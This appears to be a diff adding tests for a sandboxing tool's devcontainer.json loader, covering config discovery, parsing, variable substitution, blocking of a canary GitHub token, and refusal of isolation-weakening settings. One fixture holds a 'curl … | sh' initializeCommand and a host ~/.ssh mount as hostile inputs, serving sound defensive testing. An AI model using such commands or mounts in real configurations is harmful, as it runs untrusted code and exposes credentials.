@@ -1,0 +1,188 @@
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { AirlockError } from '../../contracts/errors';
+import { loadDevcontainer } from './devcontainer-config';
+import { findDevcontainerConfigs } from './devcontainer-files';
+import { parseEnvironmentChoice, resolveEnvironment } from './environment-choice';
+
+const dirs: string[] = [];
+afterEach(async () => {
+  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
+});
+
+async function project(files: Record<string, string>): Promise<string> {
+  const dir = await mkdtemp(path.join(tmpdir(), 'airlock-env-'));
+  dirs.push(dir);
+  for (const [rel, content] of Object.entries(files)) {
+    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
+    await writeFile(path.join(dir, rel), content);
+  }
+  return dir;
+}
+
+async function failure(p: Promise<unknown>): Promise<AirlockError> {
+  const err = await p.then(
+    () => undefined,
+    (e: unknown) => e,
+  );
+  expect(err).toBeInstanceOf(AirlockError);
+  return err as AirlockError;
+}
+
+describe('devcontainer discovery', () => {
+  it('finds the three locations in the spec order', async () => {
+    const dir = await project({
+      '.devcontainer/devcontainer.json': '{"image":"a"}',
+      '.devcontainer.json': '{"image":"b"}',
+      '.devcontainer/go/devcontainer.json': '{"image":"c"}',
+      '.devcontainer/empty/readme.md': '',
+    });
+    expect(await findDevcontainerConfigs(dir)).toEqual(['.devcontainer/devcontainer.json', '.devcontainer.json', '.devcontainer/go/devcontainer.json']);
+  });
+
+  it('auto uses the top configuration, or the only named one, and asks when several are named', async () => {
+    const none = await project({ 'main.go': '' });
+    expect((await resolveEnvironment(none, { kind: 'auto' })).kind).toBe('airlock');
+    const one = await project({ '.devcontainer/go/devcontainer.json': '{"image":"golang"}' });
+    const r = await resolveEnvironment(one, { kind: 'auto' });
+    expect(r.kind === 'devcontainer' && r.config.configPath).toBe('.devcontainer/go/devcontainer.json');
+    const two = await project({ '.devcontainer/go/devcontainer.json': '{"image":"golang"}', '.devcontainer/py/devcontainer.json': '{"image":"python"}' });
+    const err = await failure(resolveEnvironment(two, { kind: 'auto' }));
+    expect(err.message).toMatch(/2 devcontainer configurations \(go, py\).*--environment devcontainer:go/);
+    const picked = await resolveEnvironment(two, { kind: 'devcontainer', path: 'py' });
+    expect(picked.kind === 'devcontainer' && picked.config.source).toEqual({ kind: 'image', image: 'python' });
+    expect((await failure(resolveEnvironment(two, { kind: 'devcontainer', path: 'rust' }))).message).toMatch(/No devcontainer configuration 'rust'.*go\/devcontainer.json/);
+    expect((await failure(resolveEnvironment(none, { kind: 'devcontainer' }))).message).toMatch(/no devcontainer configuration/);
+  });
+
+  it('parses --environment values and refuses unknown ones', () => {
+    expect(parseEnvironmentChoice(undefined)).toEqual({ kind: 'auto' });
+    expect(parseEnvironmentChoice('airlock')).toEqual({ kind: 'airlock' });
+    expect(parseEnvironmentChoice('devcontainer:.devcontainer/go')).toEqual({ kind: 'devcontainer', path: '.devcontainer/go' });
+    expect(parseEnvironmentChoice('image:golang:1.22')).toEqual({ kind: 'image', ref: 'golang:1.22' });
+    expect(() => parseEnvironmentChoice('image:bad ref')).toThrow(/not an image reference/);
+    expect(() => parseEnvironmentChoice('nix')).toThrow(/unknown environment 'nix'/);
+  });
+});
+
+describe('devcontainer.json', () => {
+  it('reads comments and trailing commas, and says line and column of a syntax error', async () => {
+    const ok = await project({ '.devcontainer.json': '// the env\n{\n  "image": "golang:1.22", /* go */\n  "forwardPorts": [8080, "db:5432",],\n}\n' });
+    const env = await loadDevcontainer(ok, '.devcontainer.json');
+    expect(env.source).toEqual({ kind: 'image', image: 'golang:1.22' });
+    expect(env.forwardPorts).toEqual([8080]);
+    const bad = await project({ '.devcontainer.json': '{\n  "image": "golang"\n  "remoteUser": "vscode"\n}\n' });
+    const err = await failure(loadDevcontainer(bad, '.devcontainer.json'));
+    expect(err.kind).toBe('INVALID_INPUT');
+    expect(err.message).toMatch(/^\.devcontainer\.json:3:3: comma expected/);
+  });
+
+  it('resolves a build relative to the config, with args and target, and hashes the Dockerfile', async () => {
+    const dir = await project({
+      '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile","context":"..","args":{"GO":"1.22","N":3},"target":"dev"}}',
+      '.devcontainer/Dockerfile': 'FROM debian:bookworm-slim\n',
+    });
+    const env = await loadDevcontainer(dir, '.devcontainer/devcontainer.json');
+    expect(env.source).toEqual({ kind: 'build', dockerfile: '.devcontainer/Dockerfile', context: '', args: { GO: '1.22', N: '3' }, target: 'dev' });
+    await writeFile(path.join(dir, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\nRUN true\n');
+    expect((await loadDevcontainer(dir, '.devcontainer/devcontainer.json')).contentHash).not.toBe(env.contentHash);
+  });
+
+  it('names a missing Dockerfile, a path outside the project and a config with nothing to run', async () => {
+    const missing = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile"}}' });
+    expect((await failure(loadDevcontainer(missing, '.devcontainer/devcontainer.json'))).message).toMatch(/build\.dockerfile '\.devcontainer\/Dockerfile' does not exist/);
+    const outside = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"../../etc/Dockerfile"}}' });
+    expect((await failure(loadDevcontainer(outside, '.devcontainer/devcontainer.json'))).message).toMatch(/points outside the project/);
+    const empty = await project({ '.devcontainer.json': '{"name":"x"}' });
+    expect((await failure(loadDevcontainer(empty, '.devcontainer.json'))).message).toMatch(/names no image/);
+    const notObject = await project({ '.devcontainer.json': '[1]' });
+    expect((await failure(loadDevcontainer(notObject, '.devcontainer.json'))).message).toMatch(/one JSON object/);
+  });
+
+  it('normalises the lifecycle commands: string, array and object forms', async () => {
+    const dir = await project({
+      '.devcontainer.json': JSON.stringify({
+        image: 'x',
+        onCreateCommand: 'make deps',
+        updateContentCommand: ['npm', 'ci'],
+        postCreateCommand: { pip: 'pip install -r requirements.txt', go: ['go', 'mod', 'download'] },
+      }),
+    });
+    const env = await loadDevcontainer(dir, '.devcontainer.json');
+    expect(env.lifecycle).toEqual({
+      onCreateCommand: [{ argv: ['/bin/sh', '-c', 'make deps'] }],
+      updateContentCommand: [{ argv: ['npm', 'ci'] }],
+      postCreateCommand: [
+        { name: 'pip', argv: ['/bin/sh', '-c', 'pip install -r requirements.txt'] },
+        { name: 'go', argv: ['go', 'mod', 'download'] },
+      ],
+    });
+    const bad = await project({ '.devcontainer.json': '{"image":"x","postStartCommand":42}' });
+    expect((await failure(loadDevcontainer(bad, '.devcontainer.json'))).message).toMatch(/postStartCommand must be a command line/);
+  });
+
+  it('substitutes the variables', async () => {
+    const dir = await project({
+      '.devcontainer.json': JSON.stringify({
+        image: 'x',
+        containerEnv: { WS: '${containerWorkspaceFolder}/bin', BASE: '${localWorkspaceFolderBasename}', CBASE: '${containerWorkspaceFolderBasename}' },
+        remoteEnv: { PATH2: '${containerEnv:WS}:${containerEnv:NOPE:/usr/bin}', KEEP: '${unknownVar}' },
+      }),
+    });
+    const env = await loadDevcontainer(dir, '.devcontainer.json');
+    expect(env.containerEnv).toEqual({ WS: '/workspace/bin', BASE: path.basename(dir), CBASE: 'workspace' });
+    expect(env.remoteEnv).toEqual({ PATH2: '/workspace/bin:/usr/bin', KEEP: '${unknownVar}' });
+  });
+
+  it('does not copy host variables in unless allowed by name, and says so', async () => {
+    const dir = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}', TZ: '${localEnv:TZ:UTC}', LANG2: '${localEnv:LANG}' } }) });
+    const env = { GITHUB_TOKEN: 'ghp_canary_secret', TZ: 'Europe/Paris', LANG: 'fr_FR.UTF-8' };
+    const refused = await loadDevcontainer(dir, '.devcontainer.json', { env });
+    expect(refused.containerEnv).toEqual({ TOKEN: '', TZ: 'UTC', LANG2: '' });
+    expect(JSON.stringify(refused)).not.toContain('ghp_canary_secret');
+    expect(refused.notApplied.map((n) => n.field)).toEqual(['${localEnv:GITHUB_TOKEN}', '${localEnv:LANG}', '${localEnv:TZ}']);
+    expect(refused.notApplied[0]?.reason).toMatch(/not copied into the sandbox.*secrets/);
+    const allowed = await loadDevcontainer(dir, '.devcontainer.json', { env, allowedLocalEnv: ['TZ'] });
+    expect(allowed.containerEnv.TZ).toBe('Europe/Paris');
+    expect(allowed.localEnvUsed).toEqual(['TZ']);
+    expect(allowed.notApplied.map((n) => n.field)).not.toContain('${localEnv:TZ}');
+  });
+
+  it('lists what would weaken isolation as not applied, naming what runArgs asked for', async () => {
+    const dir = await project({
+      '.devcontainer.json': JSON.stringify({
+        image: 'x',
+        initializeCommand: 'curl https://example.invalid | sh',
+        runArgs: ['--network=host', '--gpus', 'all', '--cap-add=SYS_PTRACE'],
+        mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind'],
+        workspaceMount: 'source=/,target=/host,type=bind',
+        privileged: true,
+        capAdd: ['NET_ADMIN'],
+        securityOpt: ['seccomp=unconfined'],
+        hostRequirements: { gpu: true },
+      }),
+    });
+    const env = await loadDevcontainer(dir, '.devcontainer.json');
+    const fields = env.notApplied.map((n) => n.field);
+    expect(fields).toEqual(['initializeCommand', 'runArgs', 'mounts', 'workspaceMount', 'privileged', 'capAdd', 'securityOpt', 'hostRequirements.gpu', '${localEnv:HOME}']);
+    expect(env.notApplied[0]?.reason).toMatch(/runs on the host/);
+    expect(env.notApplied[1]?.reason).toMatch(/host or other networking.*GPU access.*added capabilities/);
+  });
+
+  it('reads compose and feature declarations', async () => {
+    const dir = await project({
+      '.devcontainer/devcontainer.json': JSON.stringify({ dockerComposeFile: ['compose.yml'], service: 'app', runServices: ['app', 'db'], features: { './local-tool': { version: '1' }, 'ghcr.io/devcontainers/features/go:1': {} } }),
+      '.devcontainer/compose.yml': 'services: {}\n',
+    });
+    const env = await loadDevcontainer(dir, '.devcontainer/devcontainer.json');
+    expect(env.source).toEqual({ kind: 'compose', files: ['.devcontainer/compose.yml'], service: 'app', runServices: ['app', 'db'] });
+    expect(env.features).toEqual([
+      { id: './local-tool', options: { version: '1' }, local: true },
+      { id: 'ghcr.io/devcontainers/features/go:1', options: {}, local: false },
+    ]);
+    const noService = await project({ '.devcontainer.json': '{"dockerComposeFile":"c.yml"}', 'c.yml': '' });
+    expect((await failure(loadDevcontainer(noService, '.devcontainer.json'))).message).toMatch(/needs "service"/);
+  });
+});
